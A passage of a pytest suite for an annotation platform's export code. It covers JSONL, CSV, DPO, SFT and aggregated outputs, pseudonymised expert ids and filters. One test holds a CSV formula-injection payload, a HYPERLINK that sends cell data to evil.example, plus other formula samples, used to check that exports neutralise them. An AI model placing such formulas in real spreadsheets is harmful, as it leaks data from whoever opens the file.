"""Exports from storage on both backends: every format parsed back and checked field by field against what was
stored; filters; paging; privacy (pseudonyms only); the command line; chat arguments. Flows are in
tests/flows/test_export.py."""
from __future__ import annotations

import csv
import io
import json
import os
import statistics
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from domain.exports import (
    FORMATS, ExportArgsError, ExportFilters, aggregate_item, applies_to, check_options, parse_chat_args, parse_day,
    why_empty,
)
from domain.problems import english
from domain.pseudonyms import pseudonym
from domain.task_types import (
    ErrorCheckAnswer, Issue, LabelingAnswer, PairwiseAnswer, PromptWritingAnswer, RankingAnswer, RatingAnswer,
    RewriteAnswer,
)
from handlers.export import write_export
from handlers.shared.task_service import create_project, import_in_transaction
from storage.repos.exports import iter_submissions
from storage.uow import UnitOfWork
from tests.flows.tasks_data import DATA, SPECS

ROOT = Path(__file__).resolve().parent.parent
SECRET = b"export-test-secret"
T0 = datetime(2026, 11, 20, 9, 30, 15, 250000, tzinfo=timezone.utc)
PEOPLE = {  # name, platform, platform user id: none of these may ever appear in an export
    "ana": ("Anaxandra Quillfeather", "telegram", "700100200"),
    "bo": ("Bohdana Marchetti-Voss", "slack", "U0SECRETBO"),
    "cy": ("Cyprian Oyelaran", "console", "cy-console-handle"),
}


# ---------------------------------------------------------------- seeding straight into storage


async def seed_project(db, stem: str):
    now = datetime.now(timezone.utc)
    async with db.transaction() as tx:
        uow = UnitOfWork(tx)
        created = await create_project(uow, SPECS[stem].read_bytes(), SPECS[stem].name, None, now)
        project = await uow.projects.get(created.project_id)
        await import_in_transaction(uow, project, io.BytesIO((DATA / "tasks" / f"{stem}.jsonl").read_bytes()), False,
                                    now, None)
        return project


async def add_people(db) -> dict[str, int]:
    ids = {}
    async with db.transaction() as tx:
        for key, (name, platform, user_id) in PEOPLE.items():
            pid = await tx.fetchval("INSERT INTO persons (display_name, created_at) VALUES ($1, $2) RETURNING id",
                                    name, T0)
            await tx.execute("INSERT INTO identities (person_id, platform, workspace, user_id, chat_id, display_name,"
                             " last_seen_at) VALUES ($1, $2, '', $3, $3, $4, $5)", pid, platform, user_id, name, T0)
            ids[key] = pid
    return ids


async def submit(db, project, external_id: str, person_id: int, answer, *, at: datetime = T0, seconds: int = 120,
                 review: str = "none", gold_passed: bool | None = None, gold_score: float | None = None,
                 late: bool = False) -> int:
    async with db.transaction() as tx:
        task = await tx.fetchrow("SELECT id, is_gold FROM tasks WHERE project_id = $1 AND external_id = $2",
                                 project.id, external_id)
        slot = await tx.fetchval("SELECT COUNT(*) FROM assignments WHERE task_id = $1", task["id"])
        aid = await tx.fetchval(
            "INSERT INTO assignments (task_id, project_id, person_id, slot, status, is_gold, assigned_at,"
            " lease_expires_at) VALUES ($1, $2, $3, $4, 'submitted', $5, $6, $7) RETURNING id",
            task["id"], project.id, person_id, int(slot), task["is_gold"], at - timedelta(seconds=seconds),
            at + timedelta(hours=1))
        return await tx.fetchval(
            "INSERT INTO submissions (assignment_id, task_id, project_id, person_id, answer, seconds_spent, late,"
            " submitted_at, form_values, gold_passed, gold_score, review_state) VALUES ($1, $2, $3, $4, $5, $6, $7,"
            " $8, '{}', $9, $10, $11) RETURNING id",
            aid, task["id"], project.id, person_id, answer.model_dump_json(), seconds, int(late), at,
            None if gold_passed is None else int(gold_passed), gold_score, review)


async def review(db, submission_id: int, reviewer_id: int, decision: str, reason: str | None = None,
                 comment: str | None = None) -> None:
    """The reviewer's decision on the submission as it stands, as `/review` stores it."""
    async with db.transaction() as tx:
        uow = UnitOfWork(tx)
        assert await uow.reviews.decide(submission_id, 1, reviewer_id, decision, reason, comment, T0)
        await uow.submissions.set_review_state(submission_id, 1, decision)


async def export(db, project, fmt: str, filters: ExportFilters = ExportFilters(), max_bytes=None):
    out = io.BytesIO()
    result = await write_export(db.transaction, project, fmt, filters, SECRET, out, max_bytes=max_bytes)
    return out.getvalue(), result


def lines(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def items_of(stem: str) -> dict[str, dict]:
    out = {}
    for line in (DATA / "tasks" / f"{stem}.jsonl").read_text(encoding="utf-8").splitlines():
        item = json.loads(line)
        out[item["external_id"]] = item
    return out


def assert_private(data: bytes) -> None:
    text = data.decode("utf-8")
    for name, platform, user_id in PEOPLE.values():
        assert all(part not in text for part in name.split())
        assert user_id not in text
    for key in ("person_id", "display_name", "user_id"):
        assert key not in text


JUST_A = "A is much better: it names the deposit scheme and the three-times penalty; B would mislead the tenant."
JUST_B = "B is better on legal accuracy: A misstates the notice period for California landlords."


async def pairwise_data(db):
    project = await seed_project(db, "pairwise_law")
    people = await add_people(db)
    subs = [
        ("law-pair-001", "ana", PairwiseAnswer(preference="a_much_better", criteria_preferences={
            "legal_accuracy": "a_much_better"}, justification=JUST_A), "approved", T0, True, 1.0),
        ("law-pair-001", "bo", PairwiseAnswer(preference="a_better", justification="A is better; B is vague."),
         "pending", T0 + timedelta(days=1), True, 1.0),
        ("law-pair-002", "ana", PairwiseAnswer(preference="tie", justification="Both are about the same here."),
         "approved", T0 + timedelta(days=2), None, None),
        ("law-pair-002", "bo", PairwiseAnswer(preference="b_better", justification=JUST_B), "none",
         T0 + timedelta(days=3), None, None),
        ("law-pair-002", "cy", PairwiseAnswer(preference="b_much_better", justification="B, clearly and by far."),
         "rejected", T0 + timedelta(days=4), None, None),
    ]
    ids = []
    for ext, who, answer, state, at, passed, score in subs:
        ids.append(await submit(db, project, ext, people[who], answer, at=at, review=state, gold_passed=passed,
                                gold_score=score, seconds=100 + len(ids)))
    async with db.transaction() as tx:  # the reviewer's notes, on the answers that were decided
        reviews = UnitOfWork(tx).reviews
        for sid, (_, who, _, state, _, _, _) in zip(ids, subs):
            if state in ("approved", "rejected"):
                note = NOTES[state]
                assert await reviews.decide(sid, 1, people["cy" if who != "cy" else "ana"], state, *note, T0)
    return project, people, subs, ids


NOTES = {"approved": (None, "Sound reasoning."), "rejected": ("inaccurate", "B is not clearly better here.")}


# ---------------------------------------------------------------- jsonl and csv


async def test_jsonl_has_every_field_of_every_submission(db):
    project, people, subs, ids = await pairwise_data(db)
    data, result = await export(db, project, "jsonl")
    records = lines(data)
    assert result.records == len(records) == 5 and not result.truncated
    items = items_of("pairwise_law")
    for rec, sid, (ext, who, answer, review, at, passed, score) in zip(records, ids, subs):
        item = items[ext]
        assert rec["submission_id"] == sid
        assert rec["external_id"] == ext and rec["task_type"] == "pairwise"
        assert rec["prompt"] == item["prompt"]
        assert rec["responses"] == [{"id": r["id"], "text": r["text"]} for r in item["responses"]]
        assert rec["context"] == item.get("context")
        assert rec["answer"] == json.loads(answer.model_dump_json())
        assert rec["expert_id"] == pseudonym(SECRET, people[who])
        assert rec["seconds_spent"] == 100 + ids.index(sid)
        assert rec["late"] is False and rec["revision"] == 1
        assert rec["review_state"] == review
        reason, comment = NOTES.get(review, (None, None))
        assert rec["review_decision"] == (review if review in NOTES else None)
        assert rec["review_reason"] == reason and rec["review_comment"] == comment
        assert rec["gold_passed"] is passed and rec["gold_score"] == score
        assert rec["is_gold"] is (ext == "law-pair-001")
        assert rec["submitted_at"] == at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        assert datetime.fromisoformat(rec["submitted_at"].replace("Z", "+00:00")) == at
    assert len({r["expert_id"] for r in records}) == 3
    assert_private(data)


async def test_csv_flattens_answer_fields_into_columns(db):
    project, people, subs, ids = await pairwise_data(db)
    data, result = await export(db, project, "csv")
    assert data.decode("utf-8").startswith('"submission_id","external_id","task_type","prompt",')
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert result.records == len(rows) == 5
    answer_cols = [c for c in rows[0] if c.startswith("answer.")]
    assert answer_cols == ["answer.preference", "answer.criteria_preferences.legal_accuracy",
                           "answer.criteria_preferences.actionability", "answer.justification"]
    items = items_of("pairwise_law")
    for row, sid, (ext, who, answer, review, at, passed, score) in zip(rows, ids, subs):
        assert row["submission_id"] == str(sid) and row["external_id"] == ext
        assert row["prompt"] == items[ext]["prompt"]
        assert json.loads(row["responses"]) == [{"id": r["id"], "text": r["text"]} for r in items[ext]["responses"]]
        assert row["expert_id"] == pseudonym(SECRET, people[who])
        assert row["answer.preference"] == answer.preference
        assert row["answer.criteria_preferences.legal_accuracy"] == answer.criteria_preferences.get("legal_accuracy", "")
        assert row["answer.criteria_preferences.actionability"] == ""
        assert row["answer.justification"] == answer.justification
        assert row["review_state"] == review
        assert row["review_decision"] == (review if review in NOTES else "")
        assert row["review_comment"] == NOTES.get(review, (None, ""))[1]
        assert row["review_reason"] == (NOTES.get(review, ("", ""))[0] or "")
        assert row["gold_passed"] == {True: "true", False: "false", None: ""}[passed]
        assert row["gold_score"] == ("" if score is None else str(score))
        assert row["late"] == "false" and row["context"] == ""
        assert row["submitted_at"] == at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    assert_private(data)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Sources")'


async def test_csv_neutralizes_formulas_in_people_text_and_keeps_numbers(db, database_url, tmp_path):
    """Issue 15.8: an answer starting with `=`, `+`, `-` or `@` is text in a spreadsheet, in the file the bot sends
    and in the one the command line writes; ids, seconds and gold scores stay bare numbers."""
    project = await seed_project(db, "pairwise_law")
    people = await add_people(db)
    hostile = [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]  # one per (task, person): 2 tasks, 3 people
    slots = [(ext, who) for ext in ("law-pair-001", "law-pair-002") for who in ("ana", "bo", "cy")]
    ids = [await submit(db, project, ext, people[who], PairwiseAnswer(preference="a_better", justification=j),
                        gold_score=-0.5) for (ext, who), j in zip(slots, hostile)]
    expected = ["'" + HOSTILE, "'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]
    data, _ = await export(db, project, "csv")
    proc = run_cli(database_url, project.name, "--format", "csv", "--out", str(tmp_path / "o.csv"))
    assert proc.returncode == 0, proc.stderr
    for raw in (data, (tmp_path / "o.csv").read_bytes()):
        got = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
        assert [r["answer.justification"] for r in got] == expected
        assert [r["submission_id"] for r in got] == [str(i) for i in ids]
        assert {r["gold_score"] for r in got} == {"-0.5"}  # a number the project wrote: no quote
        assert raw.decode("utf-8").count(",-0.5,") == len(hostile)  # written bare, not "'-0.5"
    jsonl_data, _ = await export(db, project, "jsonl")  # other formats keep the text exactly
    assert [r["answer"]["justification"] for r in lines(jsonl_data)] == hostile


async def test_csv_columns_for_every_other_task_type(db):
    people = await add_people(db)
    rating = await seed_project(db, "rating_medicine")
    await submit(db, rating, "med-rate-001", people["ana"], RatingAnswer(
        scores={"accuracy": 4, "safety": "safe", "completeness": 3}, justification="Accurate, but \"incomplete\",\nsee x."))
    ranking = await seed_project(db, "ranking_software")
    await submit(db, ranking, "sw-rank-001", people["bo"], RankingAnswer(order=[["a"], ["c"], ["b"]],
                                                                          justification="a raises, c hides"))
    checks = await seed_project(db, "error_check_medicine")
    ext = next(iter(items_of("error_check_medicine")))
    issue = Issue(quote="grapefruit juice has no effect", category="factual_error", severity="critical",
                  correction="It raises simvastatin levels.", response_id="a")
    await submit(db, checks, ext, people["cy"], ErrorCheckAnswer(issues=[issue]))
    labeling = await seed_project(db, "labeling_finance")
    ext = next(iter(items_of("labeling_finance")))
    await submit(db, labeling, ext, people["ana"], LabelingAnswer(labels=["card_fraud", "fees"], comment="=SUM(A1)"))

    (row,) = csv.DictReader(io.StringIO((await export(db, rating, "csv"))[0].decode()))
    assert (row["answer.scores.accuracy"], row["answer.scores.safety"], row["answer.scores.completeness"]) == (
        "4", "safe", "3")
    assert row["answer.justification"] == "Accurate, but \"incomplete\",\nsee x."  # quoting survives the round trip
    (row,) = csv.DictReader(io.StringIO((await export(db, ranking, "csv"))[0].decode()))
    assert json.loads(row["answer.order"]) == [["a"], ["c"], ["b"]] and row["answer.justification"] == "a raises, c hides"
    (row,) = csv.DictReader(io.StringIO((await export(db, checks, "csv"))[0].decode()))
    assert json.loads(row["answer.issues"]) == [issue.model_dump()]
    assert row["answer.no_issues"] == "false" and row["answer.no_issues_reason"] == ""
    (row,) = csv.DictReader(io.StringIO((await export(db, labeling, "csv"))[0].decode()))
    assert json.loads(row["answer.labels"]) == ["card_fraud", "fees"]
    assert row["answer.comment"] == "'=SUM(A1)"  # text in a spreadsheet, never a formula (issue 15.8)


# ---------------------------------------------------------------- dpo and sft


def assert_trl_preference_rows(records: list[dict]) -> None:
    """What TRL's DPOTrainer reads from a standard (not conversational) preference dataset."""
    for r in records:
        for key in ("prompt", "chosen", "rejected"):
            assert isinstance(r[key], str) and r[key], key
        assert r["chosen"] != r["rejected"]


async def test_dpo_takes_approved_judgements_only_by_default(db):
    project, people, subs, ids = await pairwise_data(db)
    data, result = await export(db, project, "dpo")
    records = lines(data)
    assert result.records == len(records) == 1  # ana's approved judgement; her approved tie is not a pair
    assert_trl_preference_rows(records)
    one = items_of("pairwise_law")["law-pair-001"]
    assert records[0] == {
        "prompt": one["prompt"], "chosen": one["responses"][0]["text"], "rejected": one["responses"][1]["text"],
        "margin": 2, "justification": JUST_A, "source": "pairwise", "expert_id": pseudonym(SECRET, people["ana"]),
        "submission_id": ids[0], "review_decision": "approved", "review_reason": None,
        "review_comment": "Sound reasoning.", "context": "", "external_id": "law-pair-001",
    }
    exporter = result.exporter
    assert exporter.read == 5 and dict(exporter.skipped) == {"pending": 1, "unreviewed": 1, "rejected": 1, "tie": 1}
    assert_private(data)


async def test_dpo_with_unreviewed_answers_skips_ties_and_rejected_ones(db):
    project, people, subs, ids = await pairwise_data(db)
    data, result = await export(db, project, "dpo", ExportFilters(include_unreviewed=True))
    records = lines(data)
    assert result.records == len(records) == 3  # the tie and the rejected judgement are not pairs
    assert_trl_preference_rows(records)
    items = items_of("pairwise_law")
    one, two = items["law-pair-001"], items["law-pair-002"]
    assert [r["submission_id"] for r in records] == [ids[0], ids[1], ids[3]]
    assert records[1]["margin"] == 1 and records[1]["chosen"] == one["responses"][0]["text"]
    assert records[1]["review_decision"] is None  # pending: nobody has decided yet
    assert records[2]["chosen"] == two["responses"][1]["text"] and records[2]["rejected"] == two["responses"][0]["text"]
    assert records[2]["margin"] == 1 and records[2]["justification"] == JUST_B
    assert records[2]["expert_id"] == pseudonym(SECRET, people["bo"])
    assert dict(result.exporter.skipped) == {"rejected": 1, "tie": 1}
    assert_private(data)


async def test_dpo_consensus_exports_the_majority_preference_with_its_agreement(db):
    project = await seed_project(db, "pairwise_law")
    people = await add_people(db)
    async with db.transaction() as tx:
        people["dee"] = await tx.fetchval("INSERT INTO persons (display_name, created_at) VALUES ('Dee', $1)"
                                          " RETURNING id", T0)
    judged = {
        "law-pair-001": [("ana", "a_much_better"), ("bo", "a_better"), ("cy", "b_better")],  # 2 of 3 say A
        "law-pair-002": [("ana", "a_better"), ("bo", "b_better"), ("cy", "tie"), ("dee", "b_much_better")],  # 2 of 4
    }
    ids: dict[str, list[int]] = {}
    for ext, votes in judged.items():
        for who, preference in votes:
            sid = await submit(db, project, ext, people[who], PairwiseAnswer(preference=preference, justification="j"))
            ids.setdefault(ext, []).append(sid)
            await review(db, sid, people["dee" if who != "dee" else "ana"], "approved")
    data, result = await export(db, project, "dpo", ExportFilters(consensus=True))
    (record,) = lines(data)
    one = items_of("pairwise_law")["law-pair-001"]
    assert record["source"] == "consensus" and record["external_id"] == "law-pair-001"
    assert record["prompt"] == one["prompt"]
    assert record["chosen"] == one["responses"][0]["text"] and record["rejected"] == one["responses"][1]["text"]
    assert record["votes"] == {"A": 2, "tie": 0, "B": 1} and record["judgements"] == 3
    assert record["majority_share"] == round(2 / 3, 4)
    assert record["agreement_percent"] == round(100 / 3, 1)  # 1 of 3 pairs share a direction
    assert record["margin"] == 1  # the lower median of the majority's margins (2 and 1)
    assert record["submission_ids"] == ids["law-pair-001"]
    assert record["expert_ids"] == [pseudonym(SECRET, people[w]) for w in ("ana", "bo", "cy")]
    assert record["review_decisions"] == ["approved"] * 3
    assert dict(result.exporter.skipped) == {"no_majority": 1}  # item 2: B has 2 of 4, not more than half
    assert_trl_preference_rows([record])


REWRITE = ("No. An emergency fund must keep its full value on the day you need it, so hold three to six months of "
           "expenses in an insured savings account and invest only money you will not need for years.")


async def rewrite_data(db):
    project = await seed_project(db, "rewrite_finance")
    people = await add_people(db)
    approved = RewriteAnswer(text=REWRITE, what_was_wrong="It ignored volatility of crypto for an emergency fund.")
    pending = RewriteAnswer(text=REWRITE.replace("three", "four"), what_was_wrong="Ignored the card's 24% APR.")
    rejected = RewriteAnswer(text=REWRITE.replace("No.", "Maybe."), what_was_wrong="Too risky.")
    first = await submit(db, project, "fin-rw-001", people["ana"], approved)
    await review(db, first, people["cy"], "approved", None, "Clear and safe.")
    await submit(db, project, "fin-rw-002", people["bo"], pending, review="pending")
    third = await submit(db, project, "fin-rw-001", people["cy"], rejected)
    await review(db, third, people["ana"], "rejected", "guideline_not_followed", "Still risky.")
    return project, people, approved, pending


async def test_dpo_from_rewrites_chooses_the_rewrite_and_puts_the_context_in_the_prompt(db):
    project, people, approved, pending = await rewrite_data(db)
    items = items_of("rewrite_finance")
    records = lines((await export(db, project, "dpo"))[0])
    assert [(r["external_id"], r["chosen"], r["rejected"]) for r in records] == [
        ("fin-rw-001", approved.text, items["fin-rw-001"]["responses"][0]["text"])]
    records = lines((await export(db, project, "dpo", ExportFilters(include_unreviewed=True)))[0])
    assert_trl_preference_rows(records)
    assert [(r["external_id"], r["chosen"], r["rejected"]) for r in records] == [
        ("fin-rw-001", approved.text, items["fin-rw-001"]["responses"][0]["text"]),
        ("fin-rw-002", pending.text, items["fin-rw-002"]["responses"][0]["text"]),
    ]
    assert records[0]["prompt"] == items["fin-rw-001"]["prompt"] and records[0]["margin"] is None
    assert records[0]["justification"] == approved.what_was_wrong and records[0]["source"] == "rewrite"
    assert records[0]["review_comment"] == "Clear and safe."
    # the trainer reads only `prompt`: the item's context goes in front of the question
    assert records[1]["prompt"] == "Credit card APR is 24%.\n\n" + items["fin-rw-002"]["prompt"]
    assert records[1]["context"] == "Credit card APR is 24%."


def assert_trl_conversational(record: dict, *keys: str) -> None:
    """TRL's conversational rows: each key a list of {"role", "content"} messages (`trl.data_utils.is_conversational`),
    the prompt the user's turn, the answers the assistant's."""
    for key in keys:
        messages = record[key]
        assert isinstance(messages, list) and messages
        assert all(set(m) == {"role", "content"} and isinstance(m["content"], str) and m["content"] for m in messages)
    assert [m["role"] for m in record["prompt"]] == ["user"]
    assert all(m["role"] == "assistant" for k in keys if k != "prompt" for m in record[k])


async def test_conversational_dpo_and_sft(db):
    project, people, approved, pending = await rewrite_data(db)
    items = items_of("rewrite_finance")
    options = ExportFilters(include_unreviewed=True, conversational=True)
    dpo = lines((await export(db, project, "dpo", options))[0])
    for record in dpo:
        assert_trl_conversational(record, "prompt", "chosen", "rejected")
    context_first = "Credit card APR is 24%.\n\n" + items["fin-rw-002"]["prompt"]
    assert dpo[1]["prompt"] == [{"role": "user", "content": context_first}]
    assert dpo[1]["chosen"] == [{"role": "assistant", "content": pending.text}]
    sft = lines((await export(db, project, "sft", options))[0])
    for record in sft:
        assert_trl_conversational(record, "prompt", "completion")
    assert [r["completion"][0]["content"] for r in sft] == [approved.text, pending.text]


async def test_sft_takes_approved_rewrites_only(db):
    project, people, approved, pending = await rewrite_data(db)
    data, result = await export(db, project, "sft")
    assert lines(data) == [{
        "prompt": items_of("rewrite_finance")["fin-rw-001"]["prompt"], "completion": approved.text, "context": "",
        "source": "rewrite", "external_id": "fin-rw-001", "expert_id": pseudonym(SECRET, people["ana"]),
        "submission_id": 1, "review_decision": "approved", "review_reason": None, "review_comment": "Clear and safe.",
    }]
    assert result.records == 1 and dict(result.exporter.skipped) == {"pending": 1, "rejected": 1}
    data, result = await export(db, project, "sft", ExportFilters(include_unreviewed=True))
    assert [r["submission_id"] for r in lines(data)] == [1, 2]
    assert lines(data)[1]["prompt"].startswith("Credit card APR is 24%.\n\n")


async def test_an_empty_export_says_why(db):
    project = await seed_project(db, "rewrite_finance")
    people = await add_people(db)
    await submit(db, project, "fin-rw-002", people["bo"], RewriteAnswer(text=REWRITE, what_was_wrong="APR."),
                 review="pending")
    data, result = await export(db, project, "sft")
    assert data == b"" and result.records == 0
    said = told(why_empty("sft", "rewrite", result.exporter, project.name, "include-unreviewed"))
    assert said == (f"Nothing to export from {project.name}: SFT takes approved rewrites only; 1 is waiting for "
                    "review.\nTo take answers nobody has reviewed yet, export again with include-unreviewed.")
    pairs, _ = await pairwise_data_in(db)
    data, result = await export(db, pairs, "dpo", ExportFilters(since=parse_day("2026-11-22")))
    said = told(why_empty("dpo", "pairwise", result.exporter, pairs.name, "--include-unreviewed"))
    assert said == (f"Nothing to export from {pairs.name}: DPO takes approved preference judgements only; "
                    "1 was never reviewed, 1 was rejected or sent back.\nTo take answers nobody has reviewed yet, "
                    "export again with --include-unreviewed.")
    data, result = await export(db, pairs, "dpo", ExportFilters(since=parse_day("2030-01-01")))
    assert told(why_empty("dpo", "pairwise", result.exporter, pairs.name, "x")) == (
        f"Nothing to export from {pairs.name}: no answer passes these filters.")


def told(why) -> str:
    """An empty export's explanation as the command line prints it: the sentence, then the hint on a line."""
    return "".join(english(m) for m in why.sentence) + ("" if why.hint is None else "\n" + english(why.hint))


async def pairwise_data_in(db):
    """The pairwise answers of `pairwise_data` in a database that already has the people."""
    project = await seed_project(db, "pairwise_law")
    async with db.transaction() as tx:
        people = dict(zip(PEOPLE, [r["id"] for r in await tx.fetch("SELECT id FROM persons ORDER BY id")]))
    await submit(db, project, "law-pair-002", people["bo"], PairwiseAnswer(preference="b_better", justification="b"),
                 at=T0 + timedelta(days=3))
    rejected = await submit(db, project, "law-pair-002", people["cy"],
                            PairwiseAnswer(preference="b_much_better", justification="c"), at=T0 + timedelta(days=4))
    await review(db, rejected, people["ana"], "rejected", "inaccurate", "no")
    return project, people


async def test_sft_from_prompt_writing(db):
    project = await seed_project(db, "prompt_writing_law")
    people = await add_people(db)
    written = PromptWritingAnswer(prompt="A tenant's deposit was protected 45 days late. What can they claim?",
                                  reference_answer="One to three times the deposit.", why_hard="Deadlines differ.")
    ext = next(iter(items_of("prompt_writing_law")))
    sid = await submit(db, project, ext, people["bo"], written)
    assert lines((await export(db, project, "sft"))[0]) == []  # nobody has approved it yet
    await review(db, sid, people["ana"], "approved")
    (record,) = lines((await export(db, project, "sft"))[0])
    assert record["prompt"] == written.prompt and record["completion"] == written.reference_answer
    assert record["source"] == "prompt_writing" and record["expert_id"] == pseudonym(SECRET, people["bo"])
    for key in ("prompt", "completion"):
        assert isinstance(record[key], str) and record[key]


async def test_options_that_do_not_fit_the_format_are_refused():
    with pytest.raises(ExportArgsError) as caught:
        check_options("jsonl", "pairwise", ExportFilters(include_unreviewed=True))
    assert caught.value.message.key == "export.option_not_for_format"
    with pytest.raises(ExportArgsError) as caught:
        check_options("sft", "rewrite", ExportFilters(consensus=True))
    assert caught.value.message.key == "export.option_not_for_format"
    with pytest.raises(ExportArgsError) as caught:
        check_options("dpo", "rewrite", ExportFilters(consensus=True))
    assert caught.value.message.key == "export.consensus_pairwise_only"
    check_options("dpo", "pairwise", ExportFilters(consensus=True, conversational=True, include_unreviewed=True))


async def test_dpo_and_sft_load_with_datasets(db, tmp_path):
    """The files load with Hugging Face `datasets` (what TRL's trainers read; the `reference` extra installs it), in
    both the standard and the conversational format."""
    import datasets

    def load(name: str, data: bytes):
        path = tmp_path / name
        path.write_bytes(data)
        return datasets.load_dataset("json", data_files=str(path), split="train", cache_dir=str(tmp_path / "cache"))

    project, people, subs, ids = await pairwise_data(db)
    ds = load("dpo.jsonl", (await export(db, project, "dpo", ExportFilters(include_unreviewed=True)))[0])
    assert ds.num_rows == 3 and {"prompt", "chosen", "rejected", "margin", "justification"} <= set(ds.column_names)
    assert ds[0]["chosen"] == items_of("pairwise_law")["law-pair-001"]["responses"][0]["text"]
    assert ds.features["prompt"].dtype == ds.features["chosen"].dtype == ds.features["rejected"].dtype == "string"
    chat = load("dpo-chat.jsonl", (await export(db, project, "dpo", ExportFilters(include_unreviewed=True,
                                                                                  conversational=True)))[0])
    assert chat.num_rows == 3 and chat[0]["prompt"][0]["role"] == "user"
    assert chat[0]["chosen"] == [{"role": "assistant", "content": ds[0]["chosen"]}]

    rewrites = await seed_project(db, "rewrite_finance")
    sid = await submit(db, rewrites, "fin-rw-002", people["ana"], RewriteAnswer(text=REWRITE, what_was_wrong="APR."))
    await review(db, sid, people["bo"], "approved", None, "Good.")
    sft = load("sft.jsonl", (await export(db, rewrites, "sft"))[0])
    assert sft.num_rows == 1 and sft[0]["completion"] == REWRITE
    assert sft[0]["prompt"] == "Credit card APR is 24%.\n\n" + items_of("rewrite_finance")["fin-rw-002"]["prompt"]


# ---------------------------------------------------------------- aggregated


async def test_aggregated_pairwise_plurality_votes_and_agreement(db):
    project, people, subs, ids = await pairwise_data(db)
    records = lines((await export(db, project, "aggregated"))[0])
    assert [r["external_id"] for r in records] == ["law-pair-001", "law-pair-002"]
    one, two = records
    assert one["answers"] == 2 and one["plurality"] == "A" and one["votes"] == {"A": 2, "tie": 0, "B": 0}
    assert one["agreement_percent"] == 100.0
    # the rejected answer (cy) is left out: a tie and a B, no plurality, no agreement
    assert two["answers"] == 2 and two["plurality"] is None and two["votes"] == {"A": 0, "tie": 1, "B": 1}
    assert two["agreement_percent"] == 0.0
    assert one["prompt"] == items_of("pairwise_law")["law-pair-001"]["prompt"]
    assert "majority" not in one  # a plurality is not called a majority


async def test_aggregated_labels_scores_and_ranks(db):
    people = await add_people(db)
    labeling = await seed_project(db, "labeling_finance")
    ext = next(iter(items_of("labeling_finance")))
    for who, labels in (("ana", ["card_fraud"]), ("bo", ["card_fraud"]), ("cy", ["card_fraud", "fees"])):
        await submit(db, labeling, ext, people[who], LabelingAnswer(labels=labels))
    (rec,) = lines((await export(db, labeling, "aggregated"))[0])
    assert rec["plurality"] == ["card_fraud"] and rec["votes"] == {"card_fraud": 3, "fees": 1}
    assert rec["answers"] == 3 and rec["agreement_percent"] == round(100 / 3, 1)  # 1 of 3 pairs agree

    rating = await seed_project(db, "rating_medicine")
    for who, acc, safety, comp in (("ana", 4, "safe", 3), ("bo", 5, "safe", 3), ("cy", 2, "borderline", 3)):
        await submit(db, rating, "med-rate-001", people[who], RatingAnswer(
            scores={"accuracy": acc, "safety": safety, "completeness": comp}, justification="ok"))
    (rec,) = lines((await export(db, rating, "aggregated"))[0])
    accuracy = rec["scores"]["accuracy"]
    assert accuracy == {"mean": round(11 / 3, 4), "median": 4.0, "sd": round(statistics.stdev([4, 5, 2]), 4),
                        "min": 2, "max": 5, "n": 3, "agreement_percent": 0.0}
    assert rec["scores"]["safety"] == {"median": "safe", "votes": {"unsafe": 0, "borderline": 1, "safe": 2}, "n": 3,
                                       "agreement_percent": round(100 / 3, 1)}
    assert rec["scores"]["completeness"]["sd"] == 0.0 and rec["scores"]["completeness"]["agreement_percent"] == 100.0
    assert rec["answers"] == 3 and rec["agreement_percent"] == round((0 + 100 / 3 + 100) / 3, 1)

    ranking = await seed_project(db, "ranking_software")
    for who, order in (("ana", [["a"], ["c"], ["b"]]), ("bo", [["a", "c"], ["b"]]), ("cy", [["a", "b", "c"]])):
        await submit(db, ranking, "sw-rank-001", people[who], RankingAnswer(order=order, justification="x"))
    (rec,) = lines((await export(db, ranking, "aggregated"))[0])
    assert rec["plurality"] is None  # three different orders
    # fractional ranks: a 1, 1.5, 2; b 3, 3, 2; c 2, 1.5, 2 — a tie of all three is rank 2 for each, not 1
    assert rec["mean_rank"] == {"a": 1.5, "b": round(8 / 3, 4), "c": round(5.5 / 3, 4)}
    assert rec["borda"] == {"a": 4.5, "b": 1.0, "c": 3.5} and rec["borda_order"] == [["a"], ["c"], ["b"]]


def test_aggregate_item_without_a_plurality_says_so():
    from domain.project_spec import parse_project_spec

    spec = parse_project_spec(SPECS["labeling_finance"].read_bytes(), SPECS["labeling_finance"].name)
    rec = aggregate_item(spec, "x", {"prompt": "p"}, [{"labels": ["fees"]}, {"labels": ["loan"]}])
    assert rec["plurality"] is None and rec["answers"] == 2 and rec["agreement_percent"] == 0.0
    assert rec["votes"] == {"fees": 1, "loan": 1}


def test_a_named_scale_has_a_median_level_not_a_plurality():
    from domain.project_spec import parse_project_spec

    spec = parse_project_spec(SPECS["rating_medicine"].read_bytes(), SPECS["rating_medicine"].name)
    given = ["unsafe", "unsafe", "borderline", "safe", "safe"]  # two pluralities; the middle answer is borderline
    rec = aggregate_item(spec, "x", {"prompt": "p"}, [{"scores": {"safety": s}} for s in given])
    assert rec["scores"]["safety"]["median"] == "borderline"
    rec = aggregate_item(spec, "x", {"prompt": "p"}, [{"scores": {"safety": s}} for s in ("unsafe", "safe")])
    assert rec["scores"]["safety"]["median"] == "unsafe"  # an even count: the lower middle, a level someone gave


# ---------------------------------------------------------------- filters and paging


async def test_filters_approved_dates_and_paused_experts(db):
    project, people, subs, ids = await pairwise_data(db)

    async def exported(**kw) -> list[int]:
        return [r["submission_id"] for r in lines((await export(db, project, "jsonl", ExportFilters(**kw)))[0])]

    assert await exported() == ids
    assert await exported(approved_only=True) == [ids[0], ids[2]]
    # days are UTC and both ends are included: T0 is 2026-11-20, the others one day apart
    assert await exported(since=parse_day("2026-11-21")) == ids[1:]
    assert await exported(until=parse_day("2026-11-21", end=True)) == ids[:2]
    assert await exported(since=parse_day("2026-11-21"), until=parse_day("2026-11-22", end=True)) == ids[1:3]
    assert await exported(since=parse_day("2026-11-25")) == []
    async with db.transaction() as tx:
        uow = UnitOfWork(tx)
        await uow.pauses.pause(project.id, people["bo"], "quality", 0.2, T0)
